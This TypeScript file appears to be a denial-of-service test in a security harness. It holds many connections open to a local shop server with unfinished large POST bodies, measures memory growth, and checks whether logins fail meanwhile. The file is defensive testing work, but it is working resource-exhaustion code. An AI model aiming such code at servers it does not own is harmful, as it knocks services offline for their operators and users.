/** Many large bodies that never end. */
import { connect, type Socket } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import type { Outcome } from '../run/drive.ts';
import { Attacker } from './attacker.ts';
import type { Target } from './target.ts';

const [BODIES, BYTES, MAX_MB] = [120, 9_500_000, 100];
/** All but its last byte. */
const UNFINISHED = Buffer.alloc(BYTES - 1, 32);
const PATHS = ['/api/nothing', '/api/message', '/api/editor/import', '/tires'];

export async function sendUnfinishedBodies({ port, shop }: Target): Promise<Outcome> {
  const found: string[] = [];
  const counts: string[] = [];
  for (const path of PATHS) {
    const before = shop.memory();
    const sockets: Socket[] = [];
    for (let n = 0; n < BODIES; n++) {
      const socket = connect(port, '127.0.0.1').on('error', () => {});
      const head = `POST ${path} HTTP/1.1\r\nHost: localhost\r\ncontent-type: application/json\r\n`;
      socket.write(`${head}content-length: ${BYTES}\r\n\r\n`);
      socket.write(UNFINISHED);
      sockets.push(socket);
    }
    let most = before;
    for (let n = 0; n < 25; n++) {
      await wait(200);
      most = Math.max(most, shop.memory());
    }
    const { status } = await new Attacker(port).post('/api/login', { username: 'a@b.example', password: 'a-guess' });
    if (status >= 500) found.push(`a login beside bodies to ${path} answers ${status}`);
    for (const socket of sockets) socket.destroy();
    if (most - before > MAX_MB) found.push(`${Math.round(most - before)} MB of memory for bodies to ${path}`);
    counts.push(`${path} +${Math.round(most - before)} MB`);
  }
  return { counts: [`${BODIES} of ${BYTES / 1e6} MB each: ${counts.join(', ')}`], found };
}
